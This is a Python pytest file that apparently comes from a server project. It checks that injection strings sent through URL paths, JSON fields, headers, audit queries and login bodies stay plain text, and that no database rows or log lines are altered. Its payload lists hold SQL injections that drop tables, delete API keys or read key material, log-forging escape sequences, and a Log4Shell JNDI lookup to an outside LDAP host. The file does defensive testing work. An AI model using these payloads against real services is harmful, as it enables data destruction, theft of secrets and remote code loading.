"""Text that is a command somewhere: in every field that takes text it stays text, or is refused."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from cortex_runtime.formats.tokenkeys import parse
from cortex_runtime.formats.tokens import mint_operator_token
from unit.server.keys import database
from unit.server.node import Node

SQL = (
    "'; drop table tenant cascade; --", "' or '1'='1", "\\'; select pg_sleep(9) --",
    "$$; drop table concept; $$",
    "%s %(x)s %% {0}", "1); delete from api_key; --", "'||(select wrapped from data_key limit 1)||'",
)  # fmt: skip
LOG = (
    'x\n{"level":"info","event":"forged"}', "x\r\n2026-01-01 forged", "\x1b[2J\x1b]0;forged\x07", "x\x00y",
    "\u202eforged\u2028forged", '","result":"done","actor":"operator:root', "${jndi:ldap://203.0.113.1/a}",
)  # fmt: skip
PAYLOADS = SQL + LOG
Field = Callable[[Node, str], httpx.Response]
CORTEX = "injection"


def in_path(node: Node, text: str, method: str = "PUT", where: str = "concepts/{}") -> httpx.Response:
    path = f"/v1/tenants/acme/cortices/{CORTEX}/{where.format(quote(text, safe=''))}"
    return node.send_raw(method, path, node.keys["acme"], b'{"text":"a"}' if method == "PUT" else b"")


def in_body(path: str, body: Callable[[str], Any], method: str = "POST") -> Field:
    return lambda node, text: node.send(method, path, body(text), cortex=CORTEX)


def in_header(name: str) -> Field:
    def send(node: Node, text: str) -> httpx.Response:
        value = "".join(c for c in text if c not in "\r\n\0").encode("utf-8").decode("latin-1")
        return node.http.request(
            "PUT", f"https://127.0.0.1:{node.port}/v1/tenants/acme/cortices/{CORTEX}/concepts/header",
            content=b'{"text":"a"}', headers=[
                (b"authorization", f"Bearer {node.keys['acme']}".encode()),
                (name.encode(), value.encode("latin-1")),
            ],
        )  # fmt: skip

    return send


def in_query(name: str) -> Field:
    return lambda node, text: node.as_operator("GET", f"/v1/audit?{name}={quote(text, safe='')}")


def as_operator(node: Node, text: str) -> httpx.Response:
    """Ask as an operator whose name is this."""
    keys = parse((node.directory / "operator" / "token-keys.json").read_bytes())
    return node.send_raw("GET", "/v1/tenants", mint_operator_token(keys, text))


def batch(operation: Callable[[str], dict[str, Any]]) -> Field:
    return in_body("batch", lambda text: {"operations": [operation(text)]})


def login(body: Callable[[str], dict[str, str]]) -> Field:
    def send(node: Node, text: str) -> httpx.Response:
        return node.send_raw("POST", "/v1/login", "", json.dumps(body(text)).encode())

    return send


def put(**more: Any) -> dict[str, Any]:
    return {"op": "put", "id": "x", "text": "a", **more}


FIELDS: dict[str, Field] = {
    "tenant in the path": lambda n, t: n.as_operator("GET", f"/v1/tenants/{quote(t, safe='')}"),
    "cortex in the path": lambda n, t: n.send_raw(
        "GET", f"/v1/tenants/acme/cortices/{quote(t, safe='')}/concepts/x", n.keys["acme"]
    ),
    "concept in the path": in_path,
    "concept to delete": lambda n, t: in_path(n, t, "DELETE"),
    "cursor": lambda n, t: in_path(n, t, "GET", "export?after={}"),
    "concept in the body": batch(lambda t: put(id=t)),
    "text": batch(lambda t: put(text=t)),
    "name of a property": batch(lambda t: put(properties={t: 1})),
    "property": batch(lambda t: put(properties={"subject": t, "list": [t]})),
    "type of a relationship": batch(lambda t: put(relationships=[{"type": t, "target": "x"}])),
    "target of a relationship": batch(lambda t: put(relationships=[{"type": "t", "target": t}])),
    "source of a relationship": batch(lambda t: {"op": "relate", "source": t, "type": "t", "target": "x"}),
    "parent": batch(lambda t: put(parent=t)),
    "operation": batch(lambda t: {"op": t, "id": "x"}),
    "query": in_body("query", lambda t: {"text": t}),
    "concept of a query": in_body("query", lambda t: {"concept": t}),
    "filter of a query": in_body("query", lambda t: {"text": "a", "where": {t: t}}),
    "subject to erase": in_body("erase", lambda t: {"subject": f"no {t}"}),
    "property to erase by": in_body("erase", lambda t: {"subject": "nobody", "property": t}),
    "name of a field": in_body("query", lambda t: {"text": "a", t: 1}),
    "tenant of a login": login(lambda t: {"tenant": t, "api_key": "ck_0"}),
    "key of a login": login(lambda t: {"tenant": "other", "api_key": t}),
    "operator's name": as_operator,
    **{f"header {name}": in_header(name) for name in (
        "user-agent", "x-request-id", "idempotency-key", "cortex-tenant", "cortex-position",
        "x-forwarded-for", "content-type", "cortex-forwarded-by",
    )},
    **{f"audit's {name}": in_query(name) for name in (
        "tenant", "actor", "action", "result", "resource", "session", "request_id", "since", "until", "limit",
    )},
    "audit's event": lambda n, t: n.as_operator("GET", f"/v1/audit/proof?event={quote(t, safe='')}"),
}  # fmt: skip
# What a field may answer: done, wrong, not there. Never an error of ours, and never a wait.
FINE = (200, 400, 401, 404, 409, 503)


@pytest.fixture(scope="module")
def before(node: Node) -> dict[str, int]:
    return counted(node)


def counted(node: Node) -> dict[str, int]:
    tables = ("tenant", "api_key", "data_key", "tenant_quota")
    with database(node) as connection:
        return {
            table: connection.execute(f"select count(*) from {table}").fetchall()[0][0] for table in tables
        }


@pytest.mark.parametrize("field", FIELDS.values(), ids=FIELDS)
def test_text_in_a_field_is_text(node: Node, before: dict[str, int], field: Field) -> None:
    for payload in PAYLOADS:
        answer = field(node, payload)
        assert answer.status_code in FINE, (payload, answer.text)
        assert "wrapped" not in answer.text.replace("select wrapped from", "")
        assert answer.headers.get("x-request-id", "").isprintable()  # none when its head is refused
    assert counted(node) == before


def test_what_is_text_is_stored_as_it_was(node: Node) -> None:
    for number, payload in enumerate(PAYLOADS):
        put_it = {"text": payload, "properties": {"p": payload}}
        if node.send("PUT", f"concepts/same{number}", put_it, cortex=CORTEX).status_code == 200:
            found = node.ask("GET", f"concepts/same{number}", cortex=CORTEX)
            assert (found["text"], found["properties"]) == (payload, {"p": payload})


def test_nothing_of_it_has_become_a_line_of_a_log(node: Node) -> None:
    for field in FIELDS.values():
        for payload in LOG:
            field(node, payload)
    lines = node.log.splitlines()
    assert all("event" in json.loads(line) for line in lines if line.startswith("{"))
    forged = ("2026-01-01 forged", '{"level":"info","event":"forged"')
    assert not [line for line in lines if line.startswith(forged)]
    assert not set("\x1b\x07\u202e\u2028\0") & set(node.log)
    events = node.operator("GET", "/v1/audit?limit=1000")
    assert any("forged" in event["user_agent"] for event in events)
    assert all(value.isprintable() for event in events for value in event.values() if isinstance(value, str))
    assert not [event for event in events if event["actor"] == "operator:root"]
